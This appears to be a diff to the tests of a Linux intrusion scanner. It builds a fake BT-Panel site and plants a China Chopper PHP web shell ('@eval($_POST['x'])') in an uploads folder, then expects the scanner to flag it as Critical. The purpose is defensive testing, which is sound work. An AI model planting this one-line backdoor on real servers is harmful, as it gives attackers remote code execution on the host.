@@ -207,6 +207,22 @@ fn clean(d: Distro, root: &Path, work: &Path) {
     for dir in ["usr/bin", "usr/sbin", "usr/lib", "usr/lib64"] {
         std::fs::create_dir_all(root.join(dir)).unwrap();
     }
+    // A BT-Panel site (nginx names its root): its front controller and BT-Panel's .user.ini.
+    write(
+        root,
+        "www/server/panel/vhost/nginx/site.conf",
+        "server {\n    listen 80;\n    server_name site.example;\n    root /www/wwwroot/site;\n}\n",
+    );
+    write(
+        root,
+        "www/wwwroot/site/index.php",
+        "<?php\nrequire __DIR__ . '/vendor/autoload.php';\n$app = require __DIR__ . '/app.php';\n$app->run(isset($_GET['s']) ? $_GET['s'] : '/');\n",
+    );
+    write(
+        root,
+        "www/wwwroot/site/.user.ini",
+        "open_basedir=/www/wwwroot/site/:/tmp/\n",
+    );
     for (link, to) in [
         ("bin", "usr/bin"),
         ("sbin", "usr/sbin"),
@@ -955,6 +971,13 @@ fn plant(d: Distro, root: &Path) {
         }
     }
 
+    // A ThinkPHP exploit dropped a China Chopper one-liner among the uploads.
+    write(
+        root,
+        "www/wwwroot/site/uploads/20240520/0c8f.php",
+        "<?php @eval($_POST['x']);?>",
+    );
+
     // Login records wiped: wtmp emptied (`> /var/log/wtmp`), lastlog cut mid-record.
     write(root, "var/log/wtmp", b"");
     let lastlog = std::fs::read(root.join("var/log/lastlog")).unwrap();
@@ -1113,6 +1136,12 @@ fn expectations(d: Distro, wipe_auth: bool) -> Vec<Expect> {
             High,
         ),
         expect("xmrig config", "scan.miner-config", "config.json", High),
+        expect(
+            "web shell in BT-Panel's web root",
+            "scan.webshell",
+            "/www/wwwroot/site/uploads/20240520/0c8f.php",
+            Critical,
+        ),
         expect(
             "xmrig binary in a hidden temp dir",
             "scan.exec-in-hidden-dir",
